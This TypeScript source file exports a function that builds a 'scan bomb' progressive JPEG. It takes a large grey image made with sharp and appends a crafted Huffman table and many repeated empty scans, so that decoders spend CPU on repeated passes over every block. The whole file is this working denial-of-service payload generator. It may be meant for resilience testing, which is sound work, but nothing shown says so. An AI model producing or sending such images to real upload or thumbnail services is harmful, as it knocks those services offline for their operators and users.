import sharp from 'sharp';

/** A progressive JPEG with scans that change nothing. Each scan costs the decoder a pass over all blocks. */
export async function scanBomb(scans: number, width = 19_992, height = 2_000): Promise<Buffer> {
  const grey = sharp({ create: { width, height, channels: 3, background: '#888' } }).toColourspace('b-w');
  const jpeg = await grey.jpeg({ progressive: true }).toBuffer();
  const runs = Math.ceil((Math.ceil(width / 8) * Math.ceil(height / 8)) / 32_767);
  // The code 0 stands for a run of 16,384 blocks plus the number in the next 14 bits.
  const bits = `0${'1'.repeat(14)}`.repeat(runs).match(/.{1,8}/g)!;
  const data = bits.map((eight) => Number.parseInt(eight.padEnd(8, '1'), 2));
  const stuffed = data.flatMap((byte) => (byte === 0xff ? [0xff, 0] : [byte]));
  const table = Buffer.from([0xff, 0xc4, 0, 20, 0x10, 1, ...Array<number>(15).fill(0), 0xe0]);
  const scan = Buffer.from([0xff, 0xda, 0, 8, 1, 1, 0, 1, 63, 0, ...stuffed]);
  return Buffer.concat([jpeg.subarray(0, -2), table, ...Array<Buffer>(scans).fill(scan), jpeg.subarray(-2)]);
}
